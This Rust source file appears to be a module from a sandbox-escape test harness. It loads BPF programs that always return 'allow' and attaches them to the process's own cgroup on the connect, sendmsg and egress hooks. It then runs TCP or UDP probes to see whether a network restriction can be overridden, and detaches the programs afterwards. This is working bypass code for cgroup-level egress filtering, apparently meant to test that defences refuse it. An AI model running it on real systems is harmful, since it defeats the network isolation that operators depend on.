//! A second user of BPF: a program of the attacker's own on the same hook, which allows everything.

use std::fs::File;
use std::io::{Error, Result};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};

use nix::libc;

use crate::nested::own_cgroup;
use crate::report::{Args, Refused, Step, Told};
use crate::{tcp, udp};

const LOAD: libc::c_int = 5;
const ATTACH: libc::c_int = 8;
const DETACH: libc::c_int = 9;
const SOCK_ADDR: u32 = 18;
const PACKETS: u32 = 8;
const MULTI: u32 = 2;

/// `return 1`.
const ALLOW: [u64; 2] = [0x0000_0001_0000_00b7, 0x0000_0000_0000_0095];

/// (attach type, program type): connect4, connect6, sendmsg4, sendmsg6, egress.
const HOOKS: [(u32, u32); 5] = [
    (10, SOCK_ADDR),
    (11, SOCK_ADDR),
    (14, SOCK_ADDR),
    (15, SOCK_ADDR),
    (1, PACKETS),
];

/// The front of `union bpf_attr` for both commands; the kernel takes what is shorter than its own.
#[repr(C)]
#[derive(Default)]
struct Attributes {
    words: [u32; 18],
}

/// `then=tcp|udp flags=multi|alone to= token=`.
pub(crate) fn attack(args: &Args) -> Told {
    run(args).into()
}

fn run(args: &Args) -> std::result::Result<Told, Refused> {
    let mut programs = Vec::new();
    for (hook, kind) in HOOKS {
        programs.push((hook, load(kind, hook).step("load a program")?));
    }
    let own = own_cgroup().step("find cgroup2")?;
    let cgroup = File::open(own).step("open its cgroup")?;
    let flags = if args.text("flags") == "alone" { 0 } else { MULTI };
    for (hook, program) in &programs {
        change(ATTACH, &cgroup, program, *hook, flags).step("attach a program")?;
    }
    let told = match args.text("then") {
        "udp" => udp::attack(args),
        _ => tcp::attack(args),
    };
    // A cgroup that outlives this process would keep them.
    for (hook, program) in &programs {
        change(DETACH, &cgroup, program, *hook, 0).step("detach a program")?;
    }
    Ok(told)
}

fn load(kind: u32, hook: u32) -> Result<OwnedFd> {
    let mut attributes = Attributes::default();
    let words = &mut attributes.words;
    words[0] = kind;
    words[1] = 2;
    put(words, 2, ALLOW.as_ptr() as u64);
    put(words, 4, c"GPL".as_ptr() as u64);
    words[17] = hook;
    let fd = call(LOAD, &attributes)?;
    // SAFETY: the descriptor is new and nobody else's.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

fn change(command: libc::c_int, cgroup: &File, program: &OwnedFd, hook: u32, flags: u32) -> Result<()> {
    let mut attributes = Attributes::default();
    attributes.words[0] = cgroup.as_raw_fd().cast_unsigned();
    attributes.words[1] = program.as_raw_fd().cast_unsigned();
    attributes.words[2] = hook;
    attributes.words[3] = flags;
    call(command, &attributes).map(drop)
}

fn put(words: &mut [u32], at: usize, value: u64) {
    let bytes = value.to_ne_bytes();
    for (word, part) in words[at..].iter_mut().zip(bytes.chunks_exact(4)) {
        *word = u32::from_ne_bytes([part[0], part[1], part[2], part[3]]);
    }
}

fn call(command: libc::c_int, attributes: &Attributes) -> Result<i32> {
    // SAFETY: the kernel reads so many bytes of `attributes`; what they point to outlives the call.
    let result = unsafe {
        libc::syscall(
            libc::SYS_bpf,
            command,
            std::ptr::from_ref(attributes),
            size_of::<Attributes>(),
        )
    };
    match i32::try_from(result) {
        Ok(number) if number >= 0 => Ok(number),
        _ => Err(Error::last_os_error()),
    }
}
